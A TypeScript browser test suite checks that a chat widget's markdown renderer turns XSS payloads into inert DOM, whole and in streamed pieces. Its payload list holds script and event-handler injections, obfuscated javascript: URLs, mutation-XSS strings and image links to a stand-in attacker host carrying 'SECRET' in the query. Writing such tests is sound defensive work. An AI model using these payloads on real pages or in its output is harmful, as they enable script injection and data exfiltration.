import { expect } from '@open-wc/testing';
import { MarkdownView } from '../../widget/markdown/markdown-view.ts';
import { decodeEntities, safeUrl } from '../../widget/markdown/safe-url.ts';

/**
 * docs/security.md §5, X1/X3/X4 in a real browser: every payload goes through the
 * element's renderer whole and split into random 1–7 character pieces (as
 * tokens arrive), and the DOM that comes out holds only the tags and
 * attributes the renderer makes, vetted URLs, no image unless allowed, and
 * nothing ever runs.
 */
const PAYLOADS = [
  '<script>window.__xss = 1</script>',
  '<img src=x onerror="window.__xss=1">',
  '<svg onload="window.__xss=1"></svg>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<a href="javascript:window.__xss=1">x</a>',
  '<style>*{display:none}</style><base href="https://attacker.test/"><meta http-equiv="refresh" content="0;url=https://attacker.test">',
  '<form action="https://attacker.test"><input name=q></form><object data="x"></object><embed src="x"><link rel=stylesheet href=x>',
  '<div style="background:url(https://attacker.test/x)">styled</div>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '[x](javascript:window.__xss=1)',
  '[x](JaVaScRiPt:window.__xss=1)',
  '[x](java\tscript:window.__xss=1)',
  '[x](java\nscript:window.__xss=1)',
  '[x]( \u0001javascript:window.__xss=1)',
  '[x](&#106;avascript:window.__xss=1)',
  '[x](&#x6A;avascript&colon;window.__xss=1)',
  '[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__xss=1)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//attacker.test/steal)',
  '[x](/relative/path)',
  '[x](<javascript:window.__xss=1>)',
  '<javascript:window.__xss=1>',
  '[x]: javascript:window.__xss=1\n\n[x]',
  '![p](https://attacker.test/p.png?q=SECRET)',
  '![](https://attacker.test/p.png?q=SECRET)',
  '![p](javascript:window.__xss=1)',
  '![p](data:image/svg+xml,<svg onload=window.__xss=1>)',
  '[![p](https://attacker.test/p.png)](https://attacker.test/)',
  '```html\n<script>window.__xss=1</script>\n```',
  '`<img src=x onerror=window.__xss=1>`',
  '> <img src=x onerror=window.__xss=1>\n> [a](javascript:window.__xss=1)',
  '| a | b |\n|---|---|\n| <script>window.__xss=1</script> | [x](javascript:1) |',
  '- [x] <b onmouseover=window.__xss=1>task</b>\n- [ ] two',
  '1. one\n2. <img src=x onerror=window.__xss=1>',
  '# <svg/onload=window.__xss=1>',
  '$<img src=x onerror=window.__xss=1>$ and \\(<script>1</script>\\)',
  'https://attacker.test/"onmouseover="window.__xss=1',
  '<br><br/><br />',
  '"><img src=x onerror=window.__xss=1>',
  "'><svg onload=window.__xss=1>",
  '<<script>script>window.__xss=1<</script>/script>',
];

const ALLOWED_TAGS = new Set([
  'DIV',
  'P',
  'H3',
  'H4',
  'H5',
  'H6',
  'BLOCKQUOTE',
  'UL',
  'OL',
  'LI',
  'PRE',
  'CODE',
  'EM',
  'STRONG',
  'S',
  'A',
  'SPAN',
  'TABLE',
  'THEAD',
  'TBODY',
  'TR',
  'TH',
  'TD',
  'BR',
  'HR',
  'BUTTON',
]);
const ALLOWED_ATTRIBUTES = new Set(['class', 'dir', 'tabindex', 'href', 'target', 'rel', 'type', 'start']);
const IMAGE_ATTRIBUTES = new Set(['alt', 'src', 'referrerpolicy', 'loading']);

type XssWindow = Window & { __xss?: number };

/** Random piece lengths from a fixed seed, so a failure can be reproduced. */
function* pieces(text: string, seed: number): Generator<string> {
  let state = seed;
  for (let at = 0; at < text.length; ) {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    const length = 1 + (state % 7);
    yield text.slice(at, at + length);
    at += length;
  }
}

function render(markdown: string, { allowImages = false, seed = 0 } = {}): HTMLElement {
  const view = new MarkdownView({ allowImages, copyCodeLabel: 'Copy code' });
  document.body.append(view.root);
  if (seed) {
    for (const piece of pieces(markdown, seed)) view.append(piece);
    view.sync(markdown, true);
  }
  view.sync(markdown, false);
  view.flush();
  return view.root;
}

function problems(root: HTMLElement, allowImages: boolean): string[] {
  const found: string[] = [];
  for (const node of root.querySelectorAll('*')) {
    const isImage = node.tagName === 'IMG';
    if (!ALLOWED_TAGS.has(node.tagName) && !(isImage && allowImages)) found.push(`<${node.tagName.toLowerCase()}>`);
    for (const { name, value } of node.attributes) {
      if (!ALLOWED_ATTRIBUTES.has(name) && !(isImage && IMAGE_ATTRIBUTES.has(name)))
        found.push(`${node.tagName} ${name}="${value}"`);
      if ((name === 'href' || name === 'src') && !/^(https?:|mailto:)/.test(value)) found.push(`${name}="${value}"`);
    }
    if (node.tagName === 'A' && node.hasAttribute('href')) {
      if (node.getAttribute('rel') !== 'noopener noreferrer nofollow') found.push(`rel="${node.getAttribute('rel')}"`);
      if (node.getAttribute('target') !== '_blank') found.push('target');
    }
  }
  return found;
}

describe('markdown rendering is safe by construction', () => {
  // The renderer is in the answer chunk: loaded first, so that its request is not counted as one a payload made.
  before(() => import('../../widget/answer-chunk.ts'));

  afterEach(() => {
    for (const root of document.body.querySelectorAll(':scope > div')) root.remove();
  });

  for (const allowImages of [false, true]) {
    it(`renders ${PAYLOADS.length} payloads, whole and in random pieces, into inert DOM (allow-images ${allowImages ? 'on' : 'off'})`, async () => {
      const resourcesBefore = performance.getEntriesByType('resource').length;
      for (const [index, original] of PAYLOADS.entries()) {
        // With images on, they would load: point them at a closed port on this machine instead.
        const payload = allowImages ? original.replaceAll('attacker.test', '127.0.0.1:9') : original;
        for (const seed of [0, index + 1, index + 101]) {
          const root = render(payload, { allowImages, seed });
          expect(problems(root, allowImages), `${JSON.stringify(payload)} (seed ${seed})`).to.deep.equal([]);
          if (!allowImages) expect(root.querySelector('img'), payload).to.equal(null);
          root.remove();
        }
      }
      // Give any handler or image a chance to run or load.
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
      expect((window as XssWindow).__xss).to.equal(undefined);
      if (!allowImages) {
        // X3: nothing in an answer makes the browser fetch anything (but the element's own code: a long answer
        // loads what lays its finished sections aside, sections.ts).
        expect(
          performance
            .getEntriesByType('resource')
            .slice(resourcesBefore)
            .map((entry) => entry.name)
            .filter((name) => !name.startsWith(new URL('/widget/', location.href).href)),
        ).to.deep.equal([]);
      }
    });
  }

  it('keeps raw HTML from the model as visible text', () => {
    const root = render('Hello <b>bold</b> <script>x()</script>');
    expect(root.querySelector('b, script')).to.equal(null);
    expect(root.textContent).to.contain('<b>bold</b>');
    expect(root.textContent).to.contain('<script>x()</script>');
  });

  it('links only absolute http, https and mailto URLs, opened safely', () => {
    const root = render(
      '[web](https://example.com/a?b=1) [mail](mailto:help@example.com) [plain](http://example.com) [bad](javascript:alert(1)) [rel](/x) https://example.org/raw',
    );
    const links = [...root.querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).to.deep.equal([
      'https://example.com/a?b=1',
      'mailto:help@example.com',
      'http://example.com/',
      null,
      null,
      'https://example.org/raw',
    ]);
    for (const link of links.filter((link) => link.hasAttribute('href'))) {
      expect(link.rel).to.equal('noopener noreferrer nofollow');
      expect(link.target).to.equal('_blank');
    }
    // An unsafe link is just its words.
    expect(links[3].textContent).to.equal('bad');
  });

  it('turns a markdown image into a link unless images are allowed', () => {
    const off = render('![A falcon](https://example.com/falcon.png)');
    expect(off.querySelector('img')).to.equal(null);
    const link = off.querySelector('a')!;
    expect(link.getAttribute('href')).to.equal('https://example.com/falcon.png');
    expect(link.textContent).to.equal('A falcon');

    const on = render('![A falcon](https://example.com/falcon.png)', { allowImages: true });
    const image = on.querySelector('img')!;
    expect(image.getAttribute('src')).to.equal('https://example.com/falcon.png');
    expect(image.alt).to.equal('A falcon');
    expect(image.referrerPolicy).to.equal('no-referrer');
  });

  it('judges a URL after decoding entities and the URL parser’s own clean-up', () => {
    expect(decodeEntities('&#106;&#x61;v&colon;&amp;&unknown;')).to.equal('jav:&&unknown;');
    for (const url of [
      'jAvAsCrIpT:alert(1)',
      'java\tscript:alert(1)',
      ' \u0000javascript:alert(1)',
      '&#106;avascript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      '//evil.test',
      'relative',
    ]) {
      expect(safeUrl(url), url).to.equal(undefined);
    }
    expect(safeUrl('https://example.com/x "title"')).to.equal('https://example.com/x');
    expect(safeUrl('mailto:a@example.com', 'image')).to.equal(undefined);
  });
});
